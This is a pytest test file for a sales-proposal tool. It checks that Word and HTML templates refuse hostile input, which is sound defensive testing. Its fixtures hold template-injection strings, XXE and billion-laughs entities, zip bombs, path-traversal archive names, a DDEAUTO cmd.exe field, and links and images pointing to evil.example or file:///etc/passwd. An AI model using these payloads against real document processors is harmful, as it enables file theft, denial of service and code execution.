"""Templates and cells that were made to do harm: each is refused in one sentence, or stays the text it is."""

from __future__ import annotations

import io
import struct
import time
import tomllib
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest
from proposal_looks import HEAD, W
from proposal_template import PLACE, p, run
from word_files import said, word_file, word_parts

from leadbook.documents.example_proposal import example_proposal
from leadbook.documents.fields import proposal_fields
from leadbook.documents.page_template import find_reaching
from leadbook.documents.proposal import fill_page, fill_word
from leadbook.documents.template_check import check_lines, text_lines
from leadbook.documents.template_files import TemplateFile
from leadbook.documents.template_review import review
from leadbook.documents.word_package import open_package, pack
from leadbook.documents.word_template import read_parts
from leadbook.documents.written import printable
from leadbook.model.issues import InputError

CORPUS = Path(__file__).parent / "corpus"
TEMPLATES = tomllib.loads((CORPUS / "templates.toml").read_text(encoding="utf-8"))
CELLS = tomllib.loads((CORPUS / "cells.toml").read_text(encoding="utf-8"))["cells"] | {
    "tags": "{{ 7*7 }} {% for x in y %} {# gone #} }} %} {_{ 7*7 }_}",
    "closes_a_run": "</w:t></w:r></w:p><w:p><w:r><w:t>second",
    "half_of_a_letter": "Al\ud83dder",
    "as_long_as_a_cell": "Alder & Sons " * 2_520,
    "one_long_word": "Donaudampfschifffahrt" * 1_500,
}
CONTEXT = {
    "lead": {"company": "Alder", "blank": None},
    "rep": {"name": "Ida"},
    "seller": {"name": "Ida"},
    "lines": [{"product": "A"}, {"product": "B"}],
}
HOSTILE = [
    *TEMPLATES["refused"],
    *(
        part["begins"] + part["repeated"] * part["times"] + part["then"] + part["closed"] * part["times"] + part["ends"]
        for part in TEMPLATES["repeated"]
    ),
    "{% autoescape false %}{{ lead.company }}{% endautoescape %}",
    "{%p include '/etc/passwd' %}",
    "{{r lead.company }}",
    "{{ lead.company|safe }}",
    "{{ lead.company.__class__.__mro__[1].__subclasses__() }}",
    "{% for a in lines %}" * 30,
]
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "word/_rels/document.xml.rels"


def refused(template: bytes) -> str:
    """Return the sentence with which a template is refused."""
    began = time.process_time()
    with pytest.raises(InputError) as told:
        fill_word(template, CONTEXT, "t.docx")
    assert time.process_time() - began < 5
    sentence = str(told.value)
    assert sentence.startswith("t.docx")
    assert "\n" not in sentence
    assert len(sentence) < 500
    return sentence


@pytest.mark.parametrize("tag", HOSTILE)
def test_a_word_template_can_do_nothing_but_fill_in(tag):
    assert " object at 0x" not in refused(word_file(p(tag)))


@pytest.mark.parametrize("tag", HOSTILE)
def test_a_page_can_do_nothing_but_fill_in(tag):
    began = time.process_time()
    with pytest.raises(InputError, match=r"^p\.html"):
        fill_page(f"<html><head></head><body>{tag}</body></html>", CONTEXT, "p.html")
    assert time.process_time() - began < 5


@pytest.mark.parametrize("tag", TEMPLATES["refused"])
def test_a_check_finds_what_would_be_refused(tag, tmp_path):
    # What only comes out while filling in (numbers that grow) is found by the fill that belongs to a check.
    path = tmp_path / "proposal.html"
    path.write_text(f"<html><head></head><body>{tag}</body></html>", encoding="utf-8")
    assert check_lines(text_lines(tag), CONTEXT) or review(TemplateFile(path, own=True))


def rels(relationship: str) -> dict[str, bytes]:
    parts = word_parts(p("x"))
    return parts | {RELS: parts[RELS].replace(b"</Relationships>", f"{relationship}</Relationships>".encode())}


def outside(kind: str, target: str) -> bytes:
    return pack(rels(f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'))


def zipped(*members: tuple[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return packed.getvalue()


def with_member(name: str, content: bytes = b"x") -> bytes:
    return zipped(*word_parts(p("x")).items(), (name, content))


def document(declared: str, text: str) -> bytes:
    head = HEAD.replace("?>", f"?>{declared}", 1)
    return word_file(
        more={
            "word/document.xml": f"{head}<w:document {W}><w:body>{p('x').replace('x</w:t>', text + '</w:t>')}</w:body></w:document>".encode()
        }
    )


def bomb() -> bytes:
    return with_member("word/media/image1.png", bytes(90_000_000))


def lying_bomb() -> bytes:
    """The same, whose directory says that it is one byte long."""
    raw = bytearray(bomb())
    place = raw.rfind(b"PK\x01\x02")
    raw[place + 24 : place + 28] = struct.pack("<I", 1)
    return bytes(raw)


LAUGHS = "<!DOCTYPE d [" + '<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9)
) + "]>"  # fmt: skip
FIELD = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLU</w:instrText></w:r>'
    '<w:r><w:instrText>DETEXT "C:\\\\secret.txt"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
)
PACKAGES = {
    "nothing": (b"", "is no Word document"),
    "a text": (b"Dear {{ lead.company }}", "is no Word document"),
    "an old or locked file": (b"\xd0\xcf\x11\xe0" + bytes(600), "is an old Word file or has a password"),
    "a zip of something else": (zipped(("a.txt", b"x")), "is no Word document"),
    "half a file": (word_file(p("x"))[:1500], "is no Word document"),
    "a bomb": (bomb(), "unpacks to far more"),
    "a bomb that lies": (lying_bomb(), "t.docx"),
    "too many members": (zipped(*((f"word/{n}.xml", b"") for n in range(2_100))), "unpacks to far more"),
    "a member above": (with_member("../evil.xml"), "tampered with"),
    "a member at the root": (with_member("/etc/evil.xml"), "tampered with"),
    "a member elsewhere": (with_member("C:evil.xml"), "tampered with"),
    "laughs": (document(LAUGHS, "&j;"), "tampered with (word/document.xml)"),
    "a file as an entity": (document('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"), "tampered with"),
    "entities in another part": (
        word_file(p("x"), more={"word/styles.xml": b'<!DOCTYPE s [<!ENTITY x "y">]><s>&x;</s>'}), "tampered with (word/styles.xml)"),
    "entities in other letters": (
        word_file(p("x"), more={"word/styles.xml": '<!DOCTYPE s [<!ENTITY x "y">]><s/>'.encode("utf-16")}), "tampered with"),
    "a broken part": (word_file(p("x"), more={"word/styles.xml": b"<w:styles"}), "is damaged (word/styles.xml)"),
    "a picture from elsewhere": (outside("image", "https://evil.example/seen.png"), "fetched when it is opened"),
    "a picture on a share": (outside("image", "\\\\evil.example\\share\\a.png"), "fetched when it is opened"),
    "a frame": (outside("frame", "https://evil.example/"), "fetched when it is opened"),
    "a document within": (outside("subDocument", "file:///C:/secret.docx"), "fetched when it is opened"),
    "a link to a file": (outside("hyperlink", "file:///etc/passwd"), "holds a link (file:///etc/passwd)"),
    "a link that runs": (outside("hyperlink", "javascript:alert(1)"), "holds a link (javascript:alert(1))"),
    "another file's text": (pack(rels(f'<Relationship Id="rId99" Type="{OFFICE}/aFChunk" Target="a.html"/>')), "another file within it"),
    "an object": (pack(rels(f'<Relationship Id="rId99" Type="{OFFICE}/oleObject" Target="embeddings/a.bin"/>')), "another file within it"),
    "an object's file": (with_member("word/embeddings/oleObject1.bin"), "an embedded object"),
    "macros": (with_member("word/vbaProject.bin"), "holds macros"),
    "a type with macros": (
        word_file(p("x"), more={"[Content_Types].xml": word_parts()["[Content_Types].xml"].replace(b"document.main", b"document.macroEnabled.main")}),
        "holds macros"),
    "a field that reads": (word_file(f"<w:p>{FIELD}</w:p>"), "a field INCLUDETEXT"),
    "a field that asks": (word_file('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe &quot;/k&quot;"/></w:p>'), "a field DDEAUTO"),
    "a tag in a field": (
        word_file('<w:p><w:fldSimple w:instr=" HYPERLINK &quot;{{ lead.company }}&quot;"/></w:p>'), "a tag within the code"),
    "no end of tags": (word_file(*(p("{{ " * 50) for _ in range(150))), 'a tag is opened with "{{"'),
    "too many tags": (word_file(p("{{ lead.company }}" * 10_001)), "has more than 10,000 tags"),
    "a block over cells": (
        word_file("<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc>" + p("{% if lead %}") + "</w:tc><w:tc>" + p("{% endif %}") + "</w:tc></w:tr></w:tbl>"),
        "is closed in another cell"),
}  # fmt: skip


@pytest.mark.parametrize("name", PACKAGES)
def test_a_file_that_is_no_harmless_template_is_refused(name):
    template, sentence = PACKAGES[name]
    assert sentence in refused(template)


def test_the_template_word_began_a_document_from_is_not_looked_for():
    parts = word_parts(p("{{ lead.company }}"))
    settings = parts["word/settings.xml"].replace(
        b"<w:defaultTabStop", b'<w:attachedTemplate r:id="rId1"/><w:defaultTabStop'
    )
    rel = f'<Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" Target="file:///\\\\evil.example\\a.dotm" TargetMode="External"/>'
    links = f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rel}</Relationships>'
    made = fill_word(
        pack(parts | {"word/settings.xml": settings, "word/_rels/settings.xml.rels": links.encode()}), CONTEXT
    )
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"evil.example" not in everything
    assert b"attachedTemplate" not in everything
    assert said(made) == ["Alder"]


@pytest.mark.parametrize("name", CELLS)
def test_a_cell_stays_text_in_a_word_file(name):
    made = fill_word(
        word_file(p("[{{ lead.company }}]"), p("end")), CONTEXT | {"lead": {"company": printable(CELLS[name])}}
    )
    assert said(made) == [f"[{printable(CELLS[name])}]", "end"]


def test_no_cell_of_the_corpus_makes_a_file_that_word_would_mend(tmp_path, ooxml_validator):
    proposal = example_proposal()
    fields = proposal_fields(proposal)
    fields["terms"] = fields["scope"] = [printable(cell) for cell in CELLS.values()]
    for key in ("company", "contact", "industry", "signer", "address"):
        fields["lead"][key] = printable(
            " ".join(cell for name, cell in CELLS.items() if not name.startswith(("as_long", "one_long")))
        )
    path = tmp_path / "made.docx"
    path.write_bytes(fill_word(PLACE.read_bytes(), fields))
    assert ooxml_validator(path) == []
    with zipfile.ZipFile(path) as archive, zipfile.ZipFile(PLACE) as template:
        assert archive.namelist() == template.namelist()
        assert archive.read(RELS) == template.read(RELS)
    assert "49" not in "".join(said(path.read_bytes()))


class _Tags(HTMLParser):
    """Notes a page's tags with their attributes' names, and its text."""

    def __init__(self):
        super().__init__()
        self.tags, self.text = [], ""

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, [name for name, _ in attrs]))

    def handle_data(self, data):
        self.text += data


def read(page: str) -> _Tags:
    parser = _Tags()
    parser.feed(page)
    return parser


@pytest.mark.parametrize("name", CELLS)
def test_a_cell_stays_text_in_a_page(name):
    page = PLACE.with_suffix(".html").read_text(encoding="utf-8")

    def filled(cell):
        fields = proposal_fields(example_proposal())
        fields["lead"]["company"] = fields["solution"] = fields["options"][0]["title"] = cell
        return read(fill_page(page, fields))

    cell = printable(CELLS[name]) or "none"
    made, harmless = filled(cell), filled("Alder")
    assert made.tags == harmless.tags
    assert cell in made.text


@pytest.mark.parametrize(
    "markup",
    [
        "<script>x</script>", "< SCRIPT src='data:,x'>", '<iframe src="file:///etc/passwd">', '<img src="https://evil.example/a.png">',
        "<img src=/etc/a.png>", '<link rel="stylesheet" href="a.css">', "<style>@import 'a.css';</style>",
        "<p style=\"background: url('https://evil.example/a.png')\">", "<p style='background: url(file:///a.png)'>",
        '<meta http-equiv="refresh" content="0;url=file:///etc/passwd">', '<body onload="x()">', '<a href="javascript:x()">',
        "<object data='a'>", "<embed src=a>", '<base href="https://evil.example/">', '<form action="https://evil.example">',
        '<img srcset="a.png 2x">', "<p>{# {{ a comment #}</p><iframe>",
    ],
)  # fmt: skip
def test_a_page_that_runs_or_fetches_something_is_refused(markup):
    page = f"<html><head></head><body>\n{markup}\n</body></html>"
    assert [line for line, _ in find_reaching(page)][:1] == [2]
    with pytest.raises(InputError, match=r"^p\.html, line 2: .*a page must be whole in itself"):
        fill_page(page, CONTEXT, "p.html")


@pytest.mark.parametrize(
    "markup",
    ['<img src="data:image/png;base64,AA==">', "<style>p { background: url(data:image/png;base64,AA==) }</style>",
     '<a href="https://seller.example/">us</a>', "<p>Prices are one thing = another; description of the form: see below</p>"],
)  # fmt: skip
def test_a_page_that_is_whole_in_itself_is_filled_in(markup):
    page = fill_page(f"<html><head></head><body>{markup}{{{{ lead.company }}}}</body></html>", CONTEXT, "p.html")
    assert markup in page
    assert "Alder" in page


def test_a_team_s_own_page_gets_the_rule_that_browsers_obey():
    page = fill_page("<html><HEAD lang='en'><title>x</title></HEAD><body></body></html>", CONTEXT, "p.html")
    assert page.index("default-src 'none'") < page.index("<title>")


def test_a_page_without_a_head_is_told_how_one_begins():
    with pytest.raises(InputError, match="has no <head>"):
        fill_page("<p>{{ lead.company }}</p>", CONTEXT, "p.html")


def test_a_split_tag_in_a_hostile_template_is_found_as_well():
    split = "<w:p>" + run("{{ lead.__cl") + run("ass__ }}") + "</w:p>"
    assert "__class__" in refused(word_file(split))
    package = open_package(word_file(split), "t.docx")
    found = [one.message for _, lines in read_parts(package) for one in check_lines(lines, CONTEXT, is_word=True)]
    assert found == ["there is no field lead.__class__."]
